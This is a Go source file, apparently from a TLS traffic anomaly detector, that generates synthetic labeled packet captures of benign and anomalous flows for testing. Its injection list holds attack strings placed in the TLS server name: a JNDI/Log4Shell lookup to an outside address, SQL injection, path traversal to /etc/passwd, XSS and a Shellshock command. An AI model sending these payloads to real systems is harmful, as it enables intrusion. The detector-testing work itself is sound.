package labset

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"path/filepath"
	"strings"
	"time"

	"github.com/tlsentry/tlsentry/internal/capgen"
	"github.com/tlsentry/tlsentry/internal/exeimage"
)

// Kinds of flows.
const (
	Benign          = "benign"
	NonTLSSSH       = "non-tls-ssh"
	NonTLSHTTP      = "non-tls-http"
	NonTLSRandom    = "non-tls-random"
	TruncatedHello  = "truncated-hello"
	MalformedHello  = "malformed-hello"
	LegacyTLS10     = "legacy-tls10"
	OddCiphersNoSNI = "odd-ciphers-no-sni"
	SelfSigned      = "self-signed-server"
	// Families the features described only from issue 12 on.
	PreambleConnect = "preamble-connect" // TLS after an HTTP CONNECT exchange on 443
	PreambleBanner  = "preamble-banner"  // TLS after a custom binary banner
	ClientCert      = "client-certificate"
	FakeTLS         = "fake-tls" // TLS-framed records without a handshake
	// A family the lab added after issue 12's checks were chosen: the
	// server speaks first, as no TLS server does.
	StagerPayload = "stager-payload" // a handler sends a program (PE or ELF) before its client speaks
	RolesSwapped  = "roles-swapped"  // the side that connected serves TLS: a real handshake, directions swapped
	HelloCut      = "hello-cut"      // a real ClientHello cut over several TLS records (DPI evasion)
	SNIInjection  = "sni-injection"  // a server name that is an exploit's or scanner's string, not a host name
)

// Anomalies lists the anomaly kinds.
func Anomalies() []string {
	return []string{NonTLSSSH, NonTLSHTTP, NonTLSRandom, TruncatedHello, MalformedHello, LegacyTLS10, OddCiphersNoSNI, SelfSigned,
		PreambleConnect, PreambleBanner, ClientCert, FakeTLS, StagerPayload, RolesSwapped, HelloCut, SNIInjection}
}

// injections are strings scanners and exploits put where a host name goes.
var injections = []string{"${jndi:ldap://198.51.100.7:1389/Exploit}", "HOST' OR '1'='1", "../../../../etc/passwd", "HOST<script>alert(1)</script>",
	"${jndi:dns://HOST/a}", "HOST;id", "HOST%00.example.org", "() { :; }; /bin/bash -c id"}

var hosts = []string{"www.example.com", "api.example.com", "cdn.example.net", "mail.example.org", "login.example.com", "static.example.net"}

// Conversations makes n conversations of a kind; seed fixes every choice
// except the randomness inside TLS (keys, randoms), which varies.
func Conversations(ctx context.Context, kind string, n int, seed uint64) ([]capgen.Conversation, error) {
	r := rand.New(rand.NewPCG(seed, 0x6c6162))
	out := make([]capgen.Conversation, 0, n)
	for i := range n {
		conv, err := one(ctx, kind, i, r)
		if err != nil {
			return nil, fmt.Errorf("%s %d: %w", kind, i, err)
		}
		out = append(out, conv)
	}
	return out, nil
}

func one(ctx context.Context, kind string, i int, r *rand.Rand) (capgen.Conversation, error) {
	host := hosts[r.IntN(len(hosts))]
	switch kind {
	case Benign:
		return benign(ctx, host, i)
	case NonTLSSSH:
		c := capgen.SSHBanners("SSH-2.0-OpenSSH_9.2p1 Debian-2", "SSH-2.0-OpenSSH_9.6")
		return append(c, capgen.ClientWrite(randomBytes(r, 300+r.IntN(900)))), nil
	case NonTLSHTTP:
		return capgen.HTTPExchange("GET /index.html HTTP/1.1\r\nHost: "+host+"\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n",
			"HTTP/1.1 400 Bad Request\r\nServer: nginx\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<html>The plain HTTP request was sent to HTTPS port</html>"), nil
	case NonTLSRandom:
		return capgen.RandomConversation(r.Uint64(), 4, 700), nil
	case TruncatedHello, MalformedHello:
		conv, err := benign(ctx, host, i)
		if err != nil {
			return nil, err
		}
		hello := append([]byte(nil), conv[0].Data...)
		if kind == TruncatedHello {
			hello = hello[:len(hello)*(30+r.IntN(50))/100] // the hello cut short, then silence
		} else {
			// Lengths that contradict each other: the record stays framed,
			// but the handshake length overruns it and the session id
			// length is garbage.
			hello[6], hello[7], hello[8] = 0xff, byte(r.IntN(256)), byte(r.IntN(256))
			hello[5+4+2+32] ^= 0xff
		}
		return capgen.Conversation{capgen.ClientWrite(hello)}, nil
	case LegacyTLS10:
		return handshake(ctx, host, func(c, s *tls.Config) {
			c.MinVersion, c.MaxVersion = tls.VersionTLS10, tls.VersionTLS10
			s.MinVersion = tls.VersionTLS10
			c.CipherSuites = []uint16{tls.TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA, tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA}
		}, capgen.RSA2048, true)
	case OddCiphersNoSNI:
		return handshake(ctx, "", func(c, s *tls.Config) {
			c.MaxVersion = tls.VersionTLS12
			c.CipherSuites = []uint16{tls.TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA}
			c.InsecureSkipVerify = true
		}, capgen.RSA2048, true)
	case PreambleConnect, PreambleBanner:
		conv, err := benign(ctx, host, i)
		if err != nil {
			return nil, err
		}
		pre := capgen.Conversation{
			capgen.ClientWrite([]byte("CONNECT " + host + ":443 HTTP/1.1\r\nHost: " + host + ":443\r\nUser-Agent: curl/8.5.0\r\n\r\n")),
			capgen.ServerWrite([]byte("HTTP/1.1 200 Connection established\r\n\r\n")),
		}
		if kind == PreambleBanner {
			// An implant's hello before it starts TLS: magic, id, length.
			pre = capgen.Conversation{capgen.ClientWrite(append([]byte{0x7e, 0x11, 0x00, 0x20}, randomBytes(r, 12+r.IntN(20))...))}
		}
		return append(pre, conv...), nil
	case ClientCert:
		cert, err := capgen.SelfSignedCert(capgen.CertOptions{Key: capgen.ECDSAP256, CommonName: "agent-" + host, Seed: uint64(i + 7)})
		if err != nil {
			return nil, err
		}
		return handshake(ctx, host, func(c, s *tls.Config) {
			c.MaxVersion = tls.VersionTLS12 // so the client's certificate is in clear
			c.Certificates = []tls.Certificate{cert}
			s.ClientAuth = tls.RequireAnyClientCert
		}, capgen.ECDSAP256, false)
	case FakeTLS:
		// Records framed as TLS application data from the first byte,
		// with no handshake: obfuscation that looks like TLS to a
		// glance at the header.
		var conv capgen.Conversation
		for k := range 2 + r.IntN(3) {
			rec := randomBytes(r, 5+64+r.IntN(600))
			rec[0], rec[1], rec[2] = 23, 3, 3
			rec[3], rec[4] = byte((len(rec)-5)>>8), byte(len(rec)-5)
			conv = append(conv, capgen.Write{FromClient: k%2 == 0, Data: rec})
		}
		return conv, nil
	case StagerPayload:
		// A reverse stager connects out to 443; its handler sends the
		// stage's length and the stage (a program), the stager runs it,
		// and only then does the client side speak.
		stage := program(r, i%2 == 0, 2000+r.IntN(6000))
		return capgen.Conversation{
			capgen.ServerWrite(append(binary.LittleEndian.AppendUint32(nil, uint32(len(stage))), stage...)),
			capgen.ClientWrite(randomBytes(r, 64+r.IntN(200))),
		}, nil
	case SNIInjection:
		// A scanner's probe: a real handshake whose server name carries
		// an injection string instead of a host name.
		injected := injections[r.IntN(len(injections))]
		return handshake(ctx, host, func(c, s *tls.Config) {
			c.ServerName = strings.ReplaceAll(injected, "HOST", host)
			c.InsecureSkipVerify = true
		}, capgen.ECDSAP256, false)
	case HelloCut:
		// A client that slips past inspection of the first record: its
		// hello (the first write, one record) cut in records of 20-200
		// bytes, the rest of the handshake as the server answers it.
		conv, err := benign(ctx, host, i)
		if err != nil {
			return nil, err
		}
		conv[0].Data = cutRecords(conv[0].Data, 20+r.IntN(180))
		return conv, nil
	case RolesSwapped:
		// An implant that connects out and then serves TLS to its
		// controller: the accepting side sends the ClientHello.
		conv, err := benign(ctx, host, i)
		if err != nil {
			return nil, err
		}
		for k := range conv {
			conv[k].FromClient = !conv[k].FromClient
		}
		return conv, nil
	case SelfSigned:
		return handshake(ctx, fmt.Sprintf("%x.example.info", r.Uint64()), func(c, s *tls.Config) {
			c.MaxVersion = tls.VersionTLS12 // so the certificate is in clear
			c.InsecureSkipVerify = true
		}, capgen.ECDSAP256, true)
	}
	return nil, fmt.Errorf("unknown kind %q", kind)
}

// benign runs one of four client set-ups, by turn.
func benign(ctx context.Context, host string, i int) (capgen.Conversation, error) {
	stacks := []func(c, s *tls.Config){
		func(c, s *tls.Config) {
			c.NextProtos, s.NextProtos = []string{"h2", "http/1.1"}, []string{"h2", "http/1.1"}
		},
		func(c, s *tls.Config) {
			c.MaxVersion = tls.VersionTLS12
			c.NextProtos, s.NextProtos = []string{"http/1.1"}, []string{"http/1.1"}
		},
		func(c, s *tls.Config) { c.CurvePreferences = []tls.CurveID{tls.X25519, tls.CurveP256} },
		func(c, s *tls.Config) {
			c.MaxVersion = tls.VersionTLS12
			c.CipherSuites = []uint16{tls.TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, tls.TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256}
		},
	}
	return handshake(ctx, host, stacks[i%len(stacks)], capgen.ECDSAP256, false)
}

// handshake runs a real crypto/tls handshake with some data after it. The
// server's certificate is signed by a CA the client trusts unless
// selfSigned (then it is the server's own, and the client does not verify).
func handshake(ctx context.Context, host string, set func(c, s *tls.Config), key capgen.KeyType, selfSigned bool) (capgen.Conversation, error) {
	name := host
	if name == "" {
		name = "server.invalid"
	}
	cert, err := capgen.SelfSignedCert(capgen.CertOptions{Key: key, CommonName: name, DNSNames: []string{name}, Seed: uint64(len(name))})
	if err != nil {
		return nil, err
	}
	c, s := capgen.TLSConfigs(cert, host)
	if !selfSigned {
		ca, err := newCA(key)
		if err != nil {
			return nil, err
		}
		if c, s, err = ca.configs(name, host); err != nil {
			return nil, err
		}
	}
	set(c, s)
	return capgen.TLSConversation(ctx, c, s, capgen.TLSOptions{
		ClientData: []byte("GET / HTTP/1.1\r\nHost: " + name + "\r\n\r\n"),
		ServerData: []byte("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"),
	})
}

// cutRecords re-frames the first TLS record of b as records of at most n
// bytes of payload each; what follows it is kept as it is.
func cutRecords(b []byte, n int) []byte {
	if len(b) < 5 {
		return b
	}
	size := int(b[3])<<8 | int(b[4])
	if 5+size > len(b) {
		return b
	}
	var out []byte
	for body := b[5 : 5+size]; len(body) > 0; {
		k := min(n, len(body))
		out = append(out, b[0], b[1], b[2], byte(k>>8), byte(k))
		out = append(out, body[:k]...)
		body = body[k:]
	}
	return append(out, b[5+size:]...)
}

// program makes n bytes that start as a Windows PE (MZ header, DOS stub,
// PE header at e_lfanew) or an ELF file, the rest random.
func program(r *rand.Rand, pe bool, n int) []byte {
	b := randomBytes(r, n)
	if pe {
		exeimage.WritePE(b, exeimage.PEHeaderAt)
	} else {
		exeimage.WriteELF(b)
	}
	return b
}

func randomBytes(r *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return b
}

// WriteSet writes n flows of a kind to DIR/KIND.pcap, each from its own
// client address to a server on port 443, and returns the path.
func WriteSet(ctx context.Context, dir, kind string, n int, seed uint64) (string, error) {
	pkts, err := Packets(ctx, kind, n, seed)
	if err != nil {
		return "", err
	}
	path := filepath.Join(dir, kind+".pcap")
	return path, capgen.WriteFile(path, pkts)
}

// Packets makes n conversations of a kind as the packets of a capture, in
// time order (what WriteSet writes).
func Packets(ctx context.Context, kind string, n int, seed uint64) ([]capgen.Packet, error) {
	convs, err := Conversations(ctx, kind, n, seed)
	if err != nil {
		return nil, err
	}
	return PacketsOf(convs, seed)
}

// PacketsOf carries conversations as the lab's flows are carried (each
// its own client, to a server on port 443, 700 ms apart, some client
// segments reordered), as the packets of a capture in time order.
func PacketsOf(convs []capgen.Conversation, seed uint64) ([]capgen.Packet, error) {
	return PacketsWith(convs, seed, nil)
}

// PacketsWith is PacketsOf with each flow's spec changed by tweak (when
// not nil) before it is put on the wire: impairments of a test's own.
func PacketsWith(convs []capgen.Conversation, seed uint64, tweak func(*capgen.FlowSpec)) ([]capgen.Packet, error) {
	r := rand.New(rand.NewPCG(seed, 0x706b74))
	start := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
	var flows [][]capgen.Packet
	for i, conv := range convs {
		spec := capgen.FlowSpec{
			Client:    netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, byte(20 + r.IntN(20)), byte(i >> 8), byte(i)}), uint16(32768+r.IntN(28000))),
			Server:    netip.AddrPortFrom(netip.AddrFrom4([4]byte{192, 0, 2, byte(1 + r.IntN(50))}), 443),
			Start:     start.Add(time.Duration(i) * 700 * time.Millisecond),
			ClientISN: r.Uint32(), ServerISN: r.Uint32(),
			MSS: 536 + r.IntN(1000), Handshake: true, Close: capgen.CloseFIN, ACKs: true, Seed: r.Uint64(),
			ClientImpair: capgen.Impairments{Reorder: 0.1},
		}
		if tweak != nil {
			tweak(&spec)
		}
		pkts, err := spec.Packets(conv)
		if err != nil {
			return nil, err
		}
		flows = append(flows, pkts)
	}
	return capgen.Merge(flows...), nil
}
